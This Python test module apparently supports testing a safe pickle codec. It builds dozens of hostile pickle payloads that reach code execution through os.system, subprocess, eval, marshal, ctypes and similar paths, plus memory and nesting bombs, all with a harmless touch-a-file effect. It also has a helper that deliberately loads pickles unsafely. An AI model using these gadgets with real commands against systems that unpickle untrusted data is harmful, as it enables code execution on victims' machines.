"""Hostile pickles: each would create a file if anything in it were run.

A gadget is the body of a pickle: opcodes that leave one value. ``alone`` makes a pickle of it,
``inside`` puts it where a portable file has its state, so that it reaches the reader.
"""

from __future__ import annotations

import marshal
import pickle
import struct
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

PROTO = b"\x80\x04"


@dataclass
class Trap:
    """A declared type whose every hook leaves a mark."""

    text: str = ""

    def __post_init__(self) -> None:
        leave_mark(self.text)

    def __setstate__(self, state: Any) -> None:
        leave_mark(state["text"] if isinstance(state, dict) else "")

    def __setattr__(self, name: str, value: Any) -> None:
        leave_mark(value)
        object.__setattr__(self, name, value)

    def __reduce__(self) -> tuple[Any, ...]:
        return leave_mark, (self.text,)


def leave_mark(text: Any) -> None:
    if isinstance(text, str) and text:
        Path(text).touch()


def text(value: str) -> bytes:
    body = value.encode()
    return b"X" + struct.pack("<I", len(body)) + body


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def old_named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def many(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + many(*arguments) + b"R"


def imported(module: str) -> bytes:
    return call(named("builtins", "__import__"), text(module))


def fields(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(name) + value for name, value in values.items()) + b"u"


HERE = __name__
SYSTEM = named("os", "system")
TRAP = named(HERE, "Trap")
REBUILD = named("milecastle.codec.pickles", "rebuild")
LEAF = named("milecastle.codec.pickles", "leaf")


def _code(mark: str) -> bytes:
    return marshal.dumps(compile(f"open({mark!r}, 'w').close()", "x", "exec"))


def _trap(mark: str) -> bytes:
    """What the standard library writes for a declared type with a hostile ``__reduce__``."""
    trap = object.__new__(Trap)
    object.__setattr__(trap, "text", mark)
    return pickle.dumps(trap, 4)[2:-1]


def builtin(name: str) -> bytes:
    return named("builtins", name)


def calling(mark: str) -> dict[str, bytes]:
    """Gadgets that call something."""
    touch, stmt = text(f"touch '{mark}'"), text(f"open({mark!r}, 'w').close()")
    command = b"](" + text("touch") + text(mark) + b"e"
    path = call(named("pathlib", "Path"), text(mark))
    return {
        "os.system": call(SYSTEM, touch),
        "os.system by GLOBAL": call(old_named("os", "system"), touch),
        "posix.system": call(named("posix", "system"), touch),
        "os.popen": call(named("os", "popen"), touch),
        "os.mkdir": call(named("os", "mkdir"), text(mark)),
        "subprocess.Popen": call(named("subprocess", "Popen"), command),
        "subprocess.check_output": call(named("subprocess", "check_output"), command),
        "subprocess.getoutput": call(named("subprocess", "getoutput"), touch),
        "builtins.eval": call(builtin("eval"), stmt),
        "builtins.exec": call(builtin("exec"), stmt),
        "__builtin__.eval by GLOBAL": call(old_named("builtins", "eval"), stmt),
        "builtins.open": call(builtin("open"), text(mark), text("w")),
        "io.open": call(named("io", "open"), text(mark), text("w")),
        "builtins.__import__ and getattr": call(
            call(builtin("getattr"), imported("os"), text("system")), touch
        ),
        "builtins.map": call(builtin("list"), call(builtin("map"), SYSTEM, b"](" + touch + b"e")),
        "operator.attrgetter": call(
            call(named("operator", "attrgetter"), text("system")), imported("os")
        )
        + many(touch)
        + b"R",
        "operator.attrgetter of a dotted path": call(
            call(
                call(named("operator", "attrgetter"), text("path.os.system")),
                imported("os"),
            ),
            touch,
        ),
        "operator.methodcaller": call(call(named("operator", "methodcaller"), text("touch")), path),
        "functools.partial": call(call(named("functools", "partial"), SYSTEM, touch)),
        "functools.reduce": call(
            named("functools", "reduce"), SYSTEM_OF_TWO, b"](" + touch + b"e", text("")
        ),
        "codecs.decode": call(
            builtin("exec"),
            call(named("codecs", "decode"), data(_statement(mark).encode()), text("utf-8")),
        ),
        "types.FunctionType and marshal": call(
            call(
                named("types", "FunctionType"),
                call(named("marshal", "loads"), data(_code(mark))),
                fields(__builtins__=call(builtin("__import__"), text("builtins"))),
            )
        ),
        "builtins.exec of a code object": call(
            builtin("exec"), call(named("marshal", "loads"), data(_code(mark)))
        ),
        "ctypes": call(
            call(
                builtin("getattr"),
                call(named("ctypes", "CDLL"), b"N"),
                text("system"),
            ),
            data(f"touch '{mark}'".encode()),
        ),
        "importlib": call(
            call(
                builtin("getattr"),
                call(named("importlib", "import_module"), text("os")),
                text("system"),
            ),
            touch,
        ),
        "runpy": call(
            named("runpy", "_run_code"),
            call(builtin("compile"), stmt, text("x"), text("exec")),
            b"}",
        ),
        "webbrowser": call(
            call(
                builtin("getattr"),
                call(named("webbrowser", "GenericBrowser"), text("touch")),
                text("open"),
            ),
            text(mark),
        ),
        "timeit": call(named("timeit", "main"), b"](" + text("-n1") + text("-r1") + stmt + b"e"),
        "pty": call(named("pty", "spawn"), command),
        "platform by a dotted name": call(named("platform", "os.system"), touch),
        "a declared module by a dotted name": call(named(HERE, "Path.touch"), path),
        "cProfile": call(named("cProfile", "run"), stmt),
        "pdb": call(named("bdb", "Bdb.run"), call(named("bdb", "Bdb")), stmt),
        "code": call(
            named("code", "InteractiveInterpreter.runsource"),
            call(named("code", "InteractiveInterpreter")),
            stmt,
        ),
        "shutil": call(named("shutil", "copy"), text(__file__), text(mark)),
        "pathlib": call(named("pathlib", "Path.touch"), path),
        "nested pickle": call(named("pickle", "loads"), data(PROTO + call(SYSTEM, touch) + b".")),
        "nested pickle in C": call(
            named("_pickle", "loads"), data(PROTO + call(SYSTEM, touch) + b".")
        ),
        "a function of ours": call(named(HERE, "leave_mark"), text(mark)),
        "a declared type with a hostile reduce": _trap(mark),
        "a declared type that is called": call(TRAP, text(mark)),
        "rebuild of a function": call(
            REBUILD, call(SYSTEM, touch), text("Trap"), fields(text=text(mark))
        ),
    }


SYSTEM_OF_TWO = named(__name__, "system_of_two")


def system_of_two(first: str, second: str) -> None:
    subprocess.run(first or second, shell=True, check=False)


def _statement(mark: str) -> str:
    return f"open({mark!r}, 'w').close()"


def making(mark: str) -> dict[str, bytes]:
    """Gadgets that make or change an object."""
    touch = text(f"touch '{mark}'")
    state = fields(text=text(mark))
    return {
        "INST": b"(" + touch + b"ios\nsystem\n",
        "OBJ": b"(" + SYSTEM + touch + b"o",
        "NEWOBJ": TRAP + b")\x81" + state + b"b",
        "NEWOBJ_EX": TRAP + b")" + b"}\x92" + state + b"b",
        "BUILD with __setstate__": call(
            named("copyreg", "_reconstructor"), TRAP, named("builtins", "object"), b"N"
        )
        + state
        + b"b",
        "copyreg.__newobj__": call(named("copyreg", "__newobj__"), TRAP) + state + b"b",
        "BUILD with slots": TRAP
        + b")\x81"
        + many(b"N", state)
        + b"b"
        + fields(text=text(mark))
        + b"b",
        "SETITEM on something else": call(named("builtins", "vars"), imported("os"))
        + text("x")
        + text(mark)
        + b"s",
        "EXT1": b"\x82\xf1",
        "EXT2": b"\x83\xf1\x00",
        "EXT4": b"\x84\xf1\x00\x00\x00",
        "PERSID": b"Pos.system\n",
        "BINPERSID": touch + b"Q",
    }


def abusing(mark: str) -> dict[str, bytes]:
    """Gadgets that call nothing: they misuse the format."""
    laughs = (
        b"]("
        + text("ha" * 20)
        + b"e\x94"
        + b"".join(b"](" + bytes([ord("h"), level]) * 10 + b"e\x94" for level in range(40))
    )
    return {
        "billion laughs": laughs,
        "a list that holds itself": b"]\x94h\x00a",
        "DUP": b"]2a",
        "POP": b"N0N",
        "POP_MARK": b"N(N1",
        "PUT and GET": b"]p0\ng0\na",
        "BINPUT and BINGET": b"]q\x00h\x00a",
        "LONG_BINPUT": b"]r\x00\x00\x00\x7f",
        "a frame": b"\x95" + b"\xff" * 8 + b"N",
        "a huge text": b"X\xff\xff\xff\x7fa",
        "a huge text of eight bytes": b"\x8d" + b"\xff" * 7 + b"\x00a",
        "huge bytes": b"B\xff\xff\xff\xffa",
        "a huge int": b"\x8b\xff\xff\xff\x7f\x01",
        "a negative size": b"\x8b\xff\xff\xff\xff\x01",
        "a decimal int": b"L" + b"9" * 5000 + b"L\n",
        "an old text": b"Vabc\n",
        "an old string": b"S'abc'\n",
        "an out-of-band buffer": b"\x97",
        "a bytearray": b"\x96" + struct.pack("<Q", 1 << 40),
        "a nesting bomb of lists": b"](" * 100_000,
        "a nesting bomb of tuples": b"(" * 100_000 + b"t" * 100_000,
        "a nesting bomb that is whole": b"](" * 5000 + b"e" * 5000,
        "a name that is data": SYSTEM,
        "a name in a list": b"](" + SYSTEM + b"e",
        "a name in a tuple": many(many(SYSTEM)),
        "a name as a key": b"}(" + SYSTEM + b"Nu",
        "a container that was left open": b"]",
        "a name without a module": b"N" + text("system") + b"\x93",
        "marks without end": b"(((",
        "a mark that nothing closes": b"(N",
        "items for nothing": b"(Ne",
        "pairs for a list": b"](NNu",
        "half a pair": b"}(" + text("a") + b"u",
        "rebuild of an undeclared type": call(
            REBUILD, named("pathlib", "Path"), text("Path"), b"}(u"
        ),
        "rebuild under another name": call(REBUILD, SYSTEM, text("Trap"), fields(text=text(mark))),
        "rebuild without a type": call(REBUILD, text("Trap"), fields(text=text(mark))),
        "rebuild without anything": call(REBUILD),
        "rebuild with a list": REBUILD + b"](e" + b"R",
        "leaf of no kind": call(LEAF, b"K\xc8", data(b"")),
        "leaf of a container": call(LEAF, b"K\x14", data(b"\x91\x01")),
        "leaf of a list": call(LEAF, b"](e", data(b"")),
        "leaf of a text": call(LEAF, b"K\x05", text("x")),
        "another function here": call(named("milecastle.codec.pickles", "PickleCodec"), b"N"),
        "more than one value": b"NN",
        "nothing": b"",
        "an unknown opcode": b"\xff",
        "another protocol inside": b"\x80\x05N",
    }


def all_gadgets(mark: str) -> dict[str, bytes]:
    return {**calling(mark), **making(mark), **abusing(mark)}


def alone(body: bytes) -> bytes:
    return PROTO + body + b"."


def inside(body: bytes, **others: bytes) -> bytes:
    """A gadget in the place of the state of what is otherwise a portable file."""
    parts = {"version": text("1.0"), **others, "state": fields(topic=body)}
    return PROTO + fields(**parts) + b"."


def run_for_real(folder: Path) -> None:
    """Load every pickle of a folder the dangerous way."""
    for path in sorted(folder.glob("*.pkl")):
        try:
            pickle.loads(path.read_bytes())
        except BaseException as error:
            print(path.name, type(error).__name__, error, file=sys.stderr)


if __name__ == "__main__":
    run_for_real(Path(sys.argv[1]))
